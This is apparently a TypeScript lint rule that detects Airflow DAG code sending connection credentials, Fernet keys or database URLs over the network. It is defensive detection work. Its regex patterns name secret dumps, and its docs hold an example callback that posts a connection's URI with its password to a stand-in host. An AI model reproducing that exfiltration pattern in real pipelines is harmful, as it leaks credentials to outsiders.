import type { SyntaxNode } from 'tree-sitter';
import { defineRule } from '../../src/engine/rule';
import { callArgs } from '../../src/engine/python';
import { factsOf, shownCallee, type CallFact } from './_facts';
import { targetText } from './_write-target';
import { returnedValues, visibleFunction } from '../../src/airflow/provenance';
import { definedFunctionNames, reachOfTarget } from './_local-calls';
import type { RuleContext } from '../../src/engine/context';

/**
 * What only a credential dump holds: a connection's whole URI (login, password, host, extras in one string), its
 * whole `extra`, the metadata DB URL and the keys of Airflow's configuration, a connection object serialized whole.
 */
const DUMPS: [RegExp, string][] = [
  [/\.get_uri\s*\(\s*\)/, "a connection's URI with its password"],
  [/\.extra_dejson\b(?!\s*(?:\[|\.get\b))|\.extra\b(?!\s*(?:\[|\.get\b|_dejson))/, "a connection's whole `extra` (keys, tokens)"],
  [/\bsql_alchemy_conn\b|\bSQL_ALCHEMY_CONN\b/, "the metadata database's URL with its password"],
  [/\bfernet_key\b|\bFERNET_KEY\b/, 'the Fernet key that decrypts every stored connection'],
  [/\bquery\(\s*(?:Variable|Connection)\s*\)/, 'every Variable or Connection of the metadata database'],
  [/\bconf\.as_dict\s*\(|\bconf\.getsection\s*\(\s*["'](?:core|database|webserver|api)["']/, "Airflow's configuration with its secrets"],
  [/\b(?:vars\s*\(|\.__dict__\b|\.to_dict\s*\(|\.to_json\s*\()[^\n]{0,80}\b(?:conn|connection)\w*\b|\b(?:conn|connection)\w*\.(?:__dict__|to_dict\s*\(|to_json\s*\()/, 'a connection object serialized whole'],
];
/**
 * A connection's password together with its login *and* host: the credentials, not a token exchange (an OAuth
 * client-credentials request sends `client_id=conn.login`, `client_secret=conn.password` to the provider).
 */
const PASSWORD = /\.(?:password|get_password\s*\(\s*\))/;
const LOGIN = /\.login\b/;
const HOST = /\.host\b/;
/** Arguments that authenticate the request itself: a connection's own credentials belong there. */
const AUTH_ARGS = new Set(['auth', 'headers', 'cert', 'verify', 'timeout', 'proxies']);

export default defineRule({
  meta: {
    id: 'DG618',
    name: 'credentials-sent-out',
    category: 'malicious',
    severity: 'critical',
    message: '`{fn}` sends {what} over the network',
    docs: {
      what:
        'Finds network calls (`requests`/`httpx` verbs, `urllib.request.urlopen`, `http.client`, sockets, `smtplib`…) whose body, parameters or URL carry what only a credential dump holds — a connection\'s URI (`conn.get_uri()`: login, password, host and extras in one string), its whole `extra`/`extra_dejson`, a connection object serialized whole (`vars(conn)`, `conn.to_dict()`), the metadata database URL (`sql_alchemy_conn`), the Fernet key, `conf.as_dict()` — or a connection\'s password sent together with its login and host — wherever the call is: in a task, an `on_failure_callback`, a listener, a helper. Values are followed through names, two steps back (`payload = {"uri": c.get_uri()}; requests.post(url, json=payload)`). Values handed to a function of the file that sends them are reported at its call and at the sending call inside it (`_publish(conn_id, f"{c.login}|{c.password}")`, its body resolving DNS labels). And, *high*: URIs, the metadata DB URL or the Fernet key written into data (a dict value, an f-string, a list item, a return value; not handed to a call such as `create_engine(c.get_uri())`) in one part of a class or DAG function and a network call in another part of it — an operator whose `_evidence` method collects them and whose `execute` mails them, a `collect` task returning every connection\'s URI and a `publish` task posting its input. A connection\'s credentials given to `auth=` or `headers=` authenticate the request and are not reported, nor is one password alone (a token exchange sends `client_secret` to the provider).',
      why:
        'Callbacks and tasks run with every connection and Variable the deployment holds. Exfiltration does not need to happen at parse time: a failure callback that posts `get_uri()` of the warehouse connection to a "status page" leaks the password on the first failed task, and looks like alerting code in review. There is no reason for a DAG to send a connection\'s URI, its extras or Airflow\'s keys anywhere.',
      example:
        '```python\ndef _notify(context):\n    c = BaseHook.get_connection("warehouse")\n    requests.post("https://status.example/fail", json={"dag": context["dag"].dag_id, "uri": c.get_uri()}, timeout=5)\n```',
      useInstead: 'Send identifiers, never credentials: the DAG id, the task id, the run id and a link to the log.',
    },
  },
  keywords: ['get_uri', 'extra', 'sql_alchemy_conn', 'fernet_key', 'as_dict', 'getsection', 'to_dict', 'to_json', '__dict__', 'vars', 'password', 'query(Variable', 'query(Connection'],
  onFile(ctx) {
    if (!DUMP_MARKER.test(ctx.file.text)) return;
    const facts = factsOf(ctx).calls;
    if (!facts.some((f) => f.kinds.has('network'))) return;
    const defs = definedFunctionNames(ctx.file.text);
    for (const fact of facts) {
      if (!fact.kinds.has('network')) continue;
      const what = dumped(sentText(fact.call, defs));
      if (what) ctx.report(fact.call, { fn: shownCallee(fact), what });
    }
    // handed to a function of the file that sends it (`_publish(conn_id, record)`, its body doing the DNS lookups)
    // … and the sending call in its body too, as DG613 does: the other line to remove
    for (const { call, send } of localSenders(ctx, defs)) {
      const what = dumped(sentText(call, defs));
      if (!what) continue;
      const fn = call.childForFieldName('function')!.text;
      ctx.report(call, { fn, what });
      if (ctx.once(send.call)) ctx.report(send.call, { fn: shownCallee(send), what: `${what}, handed to \`${fn}\` on line ${call.startPosition.row + 1},` }, { key: `inner ${fn}` });
    }
    collectedAndSent(ctx);
  },
});

/**
 * Where every dump this rule knows comes from: a connection looked up or built (`get_connection`, `Connection(…)`,
 * `.get_uri()`), the metadata DB's tables, Airflow's configuration. A file without any sends no credentials of its
 * own (the keywords admit any file with `extra` or `password`: most).
 */
const DUMP_MARKER = /get_connection|Connection\s*\(|get_uri|sql_alchemy_conn|SQL_ALCHEMY_CONN|fernet_key|FERNET_KEY|\bconf\.(?:as_dict|getsection)|query\(\s*(?:Variable|Connection)/;

/** A dump written into data: a dict value, an f-string, a list item, a return value — not handed to a call (`create_engine(c.get_uri())` is how a URI is used). */
const COLLECTED_DUMP = /\.get_uri\s*\(\s*\)|\bsql_alchemy_conn\b|\bfernet_key\b/g;
const HOLDERS = new Set(['pair', 'interpolation', 'list', 'tuple', 'return_statement', 'set']);

/**
 * Credentials collected into data by one part of a class (an operator's `_evidence` method) or of a DAG function (a
 * `collect` task), and a network call in another part of the same class or DAG function: the data flows between
 * them through `self`, a return value or an XCom, which one file's names do not show. *High*, at the network call.
 */
function collectedAndSent(ctx: RuleContext): void {
  const text = ctx.file.text;
  const scopes = new Map<number, { scope: SyntaxNode; what: string; line: number }>();
  let n = 0;
  for (const m of text.matchAll(COLLECTED_DUMP)) {
    if (++n > 50) break;
    // climb the expression (`conn.get_uri()`, `conf.get("database", "sql_alchemy_conn")`) to what holds it
    let node = holderOf(ctx.root.descendantForIndex(m.index!, m.index! + m[0].length));
    if (node?.type === 'argument_list') {
      // the `conf.get(…, "sql_alchemy_conn")` lookup's own arguments: climb past that call
      const call = node.parent!;
      if (!/^[\w.]*conf\.get\w*$/.test(call.childForFieldName('function')?.text ?? '')) continue;
      node = holderOf(call.parent);
    }
    if (!node || !HOLDERS.has(node.type)) continue;
    const scope = sharedScope(node);
    if (scope && !scopes.has(scope.id)) {
      const what = /get_uri/.test(m[0]) ? "connections' URIs with their passwords" : /fernet/.test(m[0]) ? 'the Fernet key' : "the metadata database's URL";
      scopes.set(scope.id, { scope, what, line: node.startPosition.row + 1 });
    }
  }
  if (!scopes.size) return;
  for (const fact of factsOf(ctx).calls) {
    if (!fact.kinds.has('network')) continue;
    for (const { scope, what, line } of scopes.values()) {
      if (fact.call.startIndex < scope.startIndex || fact.call.endIndex > scope.endIndex || !ctx.once(fact.call)) continue;
      const fn = shownCallee(fact);
      ctx.report(fact.call, { fn, what: `data from code that collects ${what} (line ${line})` }, { severity: 'high', key: `collected ${fn}` });
    }
  }
}

/** The first of `node` and its ancestors that holds a value (HOLDERS), passes it to a call, or ends the expression. */
function holderOf(node: SyntaxNode | null): SyntaxNode | null {
  while (node && !HOLDERS.has(node.type) && node.type !== 'argument_list' && !/statement|block|module|definition/.test(node.type)) node = node.parent;
  return node;
}

/** The class around a node, or else its outermost function (a DAG function holding both tasks). */
function sharedScope(node: SyntaxNode): SyntaxNode | null {
  let fn: SyntaxNode | null = null;
  for (let p: SyntaxNode | null = node.parent; p; p = p.parent) {
    if (p.type === 'class_definition') return p;
    if (p.type === 'function_definition') fn = p;
  }
  return fn;
}

function dumped(text: string): string | null {
  if (!text) return null;
  const what = DUMPS.find(([re]) => re.test(text))?.[1];
  if (what) return what;
  return PASSWORD.test(text) && LOGIN.test(text) && HOST.test(text) && /get_connection|Connection\s*\(/.test(text) ? "a connection's login and password" : null;
}

/** Calls of module-level functions of the file whose body (or a local function it calls) reaches the network. */
function localSenders(ctx: RuleContext, defs: ReadonlySet<string>): { call: SyntaxNode; send: CallFact }[] {
  const text = ctx.file.text;
  const out: { call: SyntaxNode; send: CallFact }[] = [];
  if (!defs.size) return out;
  // null: the function does not send (undefined: not asked yet)
  const sends = new Map<string, CallFact | null | undefined>();
  const re = new RegExp(`(?<![\\w.])(${[...defs].join('|')})[ \\t]*\\(`, 'g');
  let checked = 0;
  for (const m of text.matchAll(re)) {
    if (/\bdef[ \t]+$/.test(text.slice(Math.max(0, m.index! - 8), m.index!)) || ++checked > 200) continue;
    const id = ctx.root.descendantForIndex(m.index!, m.index! + m[1].length);
    const call = id.parent;
    if (id.type !== 'identifier' || call?.type !== 'call' || call.childForFieldName('function')?.id !== id.id) continue;
    if (sends.get(m[1]) === undefined) {
      const r = reachOfTarget(ctx, id);
      sends.set(m[1], r?.kinds.has('network') ? r : null);
    }
    const send = sends.get(m[1]);
    if (send) out.push({ call, send });
  }
  return out;
}

/**
 * Calls whose arguments address and authenticate a connection rather than carry data: `ssh.connect(hostname=c.host,
 * username=c.login, password=c.password)`, `smtp.login(user, pw)`, a client's constructor.
 */
const LOGINS = /(?:^|\.)(?:connect|connect_ex|login|starttls|auth\w*|SSHClient|Transport|HTTPS?Connection|SMTP(?:_SSL)?|FTP(?:_TLS)?|create_connection|socket)$/;

/** The text of what a call sends (its arguments but those that authenticate it), with what their names hold. */
function sentText(call: SyntaxNode, defs: ReadonlySet<string>): string {
  const f = call.childForFieldName('function');
  if (LOGINS.test(f?.type === 'attribute' ? f.childForFieldName('attribute')!.text : f?.text ?? '')) return '';
  const args = callArgs(call);
  const sent: SyntaxNode[] = [...args.positional];
  for (const [k, v] of args.keywords) if (!AUTH_ARGS.has(k)) sent.push(v);
  let text = sent.map((a) => targetText(a)).join('\n');
  // what functions of the file named in it return (`"context": _variable_snapshot()` with `return {v.key: v.val for v
  // in session.query(Variable).all()}`), one step
  for (const m of text.matchAll(/(?<![\w.])([A-Za-z_]\w*)\s*\(/g)) {
    const def = defs.has(m[1]) ? visibleFunction(call, m[1]) : null;
    if (def && !(call.startIndex >= def.startIndex && call.endIndex <= def.endIndex)) text += '\n' + returnedValues(def).map((r) => targetText(r)).join('\n');
    if (text.length > 20_000) break;
  }
  return text;
}
